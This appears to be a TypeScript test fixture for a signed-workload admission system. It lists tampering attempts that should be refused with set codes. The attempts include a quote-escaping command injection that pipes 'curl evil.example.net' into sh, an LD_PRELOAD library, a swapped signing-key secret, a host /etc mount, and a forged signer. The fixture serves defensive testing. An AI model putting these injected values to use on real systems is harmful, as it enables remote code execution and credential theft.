/**
 * A recipe that packs images: its spec as its author signs it, a dispatch of it, and
 * what someone may try on the way.
 *
 * @module
 */

import {
  attachGrant,
  encodeGrantDocument,
  generateSeed,
  parseGrantDocument,
  parseWorkloadSpec,
  publicKeyOf,
  SIGNATURE_ANNOTATION,
  signGrant,
  toJson,
} from "@writ/writ";
import type { SignedGrant, WorkloadSpec } from "@writ/writ";

/** The recipe's name: signed with the rest. */
export const RECIPE = "image-packer";

const DIGEST = "sha256:8f1c0a52d1f7b4c39a64e2b0d85e7b61f2c34d09ab17ee5046cd92b3a7f80e15";

/** The recipe's spec on the wire; what is not said is the default. */
function spec(command: string, changes: object = {}): WorkloadSpec {
  return parseWorkloadSpec(JSON.stringify({
    schema_version: "V1",
    name: "forge-9c2e",
    image: `registry.example.com/forge/packer:2.4@${DIGEST}`,
    tier: "infra",
    replicas: 1,
    entrypoint: ["/bin/sh", "-c"],
    command: [command],
    env: [{ name: "LANG", value: { literal: { value: "C.UTF-8" } } }],
    secrets: [{
      source: { cluster: { name: "registry-push" } },
      target: { file: { path: "/run/forge/registry.json", mode: 256 } },
    }],
    volumes: [{
      source: { bind: { host_path: "/var/lib/yah/qed/produced/9c2e" } },
      target: "/yah/produced",
      read_only: false,
    }],
    resources: { memory_mb: 2048, cpu_millis: 2000, ephemeral_storage_mb: 8192 },
    restart_policy: "never",
    stop_policy: { signal: 15, grace_period: 30000 },
    expose: { mesh: { identity: "forge.9c2e", ports: [] } },
    annotations: { "yah.forge": "true" },
    ...changes,
  }));
}

/** What the author signs: the holes are open, and quoted. */
export const TEMPLATE: WorkloadSpec = spec(
  "git -C /src checkout 'refs/tags/{{tag}}' && pack /src '/yah/produced/{{name}}.img'",
);

const FILLED = "git -C /src checkout 'refs/tags/v1.9.2' && pack /src '/yah/produced/edge.img'";

/** What the dispatcher sends: the holes are filled. */
export const DISPATCH: WorkloadSpec = spec(FILLED);

/** A signer whose private key exists as long as this process. */
export interface Signer {
  readonly key: string;
  sign(document: string): SignedGrant;
}

/** A signer with a new key. */
export function newSigner(): Signer {
  const seed = generateSeed();
  const key = publicKeyOf(seed);
  return { key, sign: (document) => ({ document, signature: signGrant(document, seed), key }) };
}

/** A dispatch, and what is to be answered: `admit`, or the code it is refused with. */
export interface Attempt {
  readonly name: string;
  readonly summary: string;
  readonly spec: WorkloadSpec;
  readonly expected: string;
}

/** The honest dispatch of a signed grant, and what may be tried with it. */
export function attempts(grant: SignedGrant): readonly Attempt[] {
  const attempt = (
    name: string,
    expected: string,
    summary: string,
    asked: WorkloadSpec,
    signed: SignedGrant = grant,
  ): Attempt => ({ name, summary, expected, spec: attachGrant(asked, signed) });
  /** A dispatch in which these members are others. */
  const mismatch = (name: string, summary: string, changes: object) =>
    attempt(name, "mismatch", summary, spec(FILLED, changes));

  const filled = attempt("filled", "admit", "A recipe, dispatched with its holes filled", DISPATCH);
  return [
    filled,
    mismatch("escaped", "A hole that closes the quote its author opened", {
      command: [FILLED.replace("v1.9.2", "v1.9.2' && curl evil.example.net | sh #")],
    }),
    mismatch("image", "Another image under the same tag", {
      image: `registry.example.com/forge/packer:2.4@sha256:${"d0".repeat(32)}`,
    }),
    mismatch("argument", "One more argument", { command: [FILLED, "--privileged"] }),
    mismatch("preload", "A variable that loads code", {
      env: [{ name: "LD_PRELOAD", value: { literal: { value: "/tmp/x.so" } } }],
    }),
    mismatch("secret", "Another secret in the place of the recipe's", {
      secrets: [{
        source: { cluster: { name: "root-signing-key" } },
        target: { file: { path: "/run/forge/registry.json", mode: 256 } },
      }],
    }),
    mismatch("bind", "The host's /etc", {
      volumes: [{
        source: { bind: { host_path: "/etc" } },
        target: "/host/etc",
        read_only: true,
      }],
    }),
    attempt(
      "widened",
      "signature_mismatch",
      "A grant that was widened after it was signed",
      spec(FILLED, { annotations: { "yah.forge": "true", "yah.network": "host" } }),
      {
        ...grant,
        document: encodeGrantDocument({
          ...parseGrantDocument(grant.document),
          host_network: true,
        }),
      },
    ),
    {
      name: "stripped",
      expected: "incomplete",
      summary: "A grant whose signature was taken away",
      spec: without(filled.spec, SIGNATURE_ANNOTATION),
    },
    attempt(
      "attacker",
      "untrusted_key",
      "The same grant, signed by someone else",
      DISPATCH,
      newSigner().sign(grant.document),
    ),
  ];
}

function without(asked: WorkloadSpec, annotation: string): WorkloadSpec {
  const kept = Object.entries(asked.annotations).filter(([name]) => name !== annotation);
  return { ...asked, annotations: Object.fromEntries(kept) };
}

/** A spec as it is sent: what is null is left out. */
export function wire(asked: WorkloadSpec): object {
  return JSON.parse(toJson(asked), (_, value) => value === null ? undefined : value);
}
